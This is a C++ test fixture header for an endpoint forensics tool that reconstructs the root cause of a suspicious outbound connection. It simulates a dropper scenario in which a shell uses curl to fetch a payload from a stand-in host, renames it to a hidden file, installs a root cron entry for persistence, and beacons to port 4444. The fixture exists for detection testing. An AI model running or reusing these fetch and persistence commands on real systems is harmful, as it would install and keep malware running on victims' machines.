// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "tests/endpoint/scenario.h"

#include "core/endpoint/trace.h"
#include "core/endpoint/trace_codec.h"
#include "core/endpoint/trace_json.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace metsuke::endpoint::test {


inline constexpr const char* kEvil = "203.0.113.9";
inline constexpr const char* kDrop = "203.0.113.8";
inline constexpr const char* kCron = "/usr/sbin/cron";
inline constexpr const char* kInit = "/usr/lib/systemd/systemd";

inline TraceQuestion beacon(double at, uint16_t localPort = 50'000) {
    TraceQuestion question;
    question.time = seconds(at);
    question.local = *IpAddress::parse("10.0.0.5");
    question.localPort = localPort;
    question.remote = *IpAddress::parse(kEvil);
    question.remotePort = 4444;
    return question;
}

inline Trace trace(Scenario& scenario, const TraceQuestion& question, const TraceLimits& limits = {}) {
    auto result = traceRootCause(*scenario.history(), question, limits, {});
    EXPECT_TRUE(result.ok()) << result.error().message.id << ' ' << result.error().detail;
    if (!result.ok()) {
        return {};
    }
    const auto travelled = decodeTrace(encodeTrace(*result));
    EXPECT_TRUE(travelled.ok() && *travelled == *result) << "the trace does not travel";
    return std::move(result).value();
}

inline std::string label(const Trace& trace, std::optional<size_t> node) { return node ? trace.nodes[*node].label : "-"; }
inline ProcessUid ownerOf(const Trace& trace) { return trace.owner ? trace.nodes[*trace.owner].process : ProcessUid{}; }

inline std::vector<std::string> gapIds(const Trace& trace) {
    std::vector<std::string> ids;
    for (const TraceGap& gap : trace.gaps) {
        ids.push_back(gap.what.id);
    }
    return ids;
}

inline std::vector<std::string> blast(const Trace& trace, TraceNode::Kind kind) {
    std::vector<std::string> labels;
    for (const size_t node : trace.blast) {
        if (trace.nodes[node].kind == kind) {
            labels.push_back(trace.nodes[node].label);
        }
    }
    return labels;
}

inline double confidenceOf(const Trace& trace, TraceEdge::Relation relation) {
    for (const TraceEdge& edge : trace.edges) {
        if (edge.relation == relation) {
            return edge.confidence;
        }
    }
    return -1;
}

inline const MessageCatalog& catalog() {
    static const auto loaded = MessageCatalog::load(std::filesystem::path(METSUKE_SOURCE_DIR) / "resources" / "i18n");
    return *loaded;
}

inline std::string story(const Trace& trace, Language language = Language::English) {
    std::string text;
    for (const Message& sentence : traceStory(trace)) {
        text += catalog().render(sentence, language) + '\n';
    }
    return text;
}

/// S1: a script that curl fetched, under another name, by cron and in a session of its own.
struct Dropper {
    Scenario s;
    ProcessUid init, cron, shell, curl, beacon;
    FileId payload{8, 77};
    Dropper() {
        init = s.running(kInit);
        cron = s.running(kCron, init);
        s.at(100);
        shell = s.run(s.running("/usr/sbin/sshd", init), "/bin/bash", {"bash"});
        const auto script = s.run(shell, "/bin/sh", {"sh", "-c", "curl -o .u.part http://203.0.113.8/u; mv .u.part .update"});
        curl = s.run(script, "/usr/bin/curl", {"curl", "-o", "/home/sato/.u.part", "http://203.0.113.8/u"});
        s.connect(curl, kDrop, 8080, 40'000);
        s.write(curl, "/home/sato/.u.part", payload);
        s.end(curl);
        s.rename(s.run(script, "/bin/mv"), "/home/sato/.u.part", "/home/sato/.update", payload);
        s.persist(script, "cron", "/etc/cron.d/upd", "* * * * * root /home/sato/.update");
        s.end(script);
        s.at(160);
        const auto job = s.fork(cron);
        s.exec(job, "/bin/sh", {"sh", "-c", "/home/sato/.update"});
        s.exec(job, "/usr/bin/setsid", {"setsid", "/home/sato/.update"});
        beacon = s.fork(job);
        s.end(job);
        s.exec(beacon, "/home/sato/.update", {"/home/sato/.update"}, payload);
        s.at(200).connect(beacon, kEvil, 4444, 50'000);
    }
};

} // namespace metsuke::endpoint::test
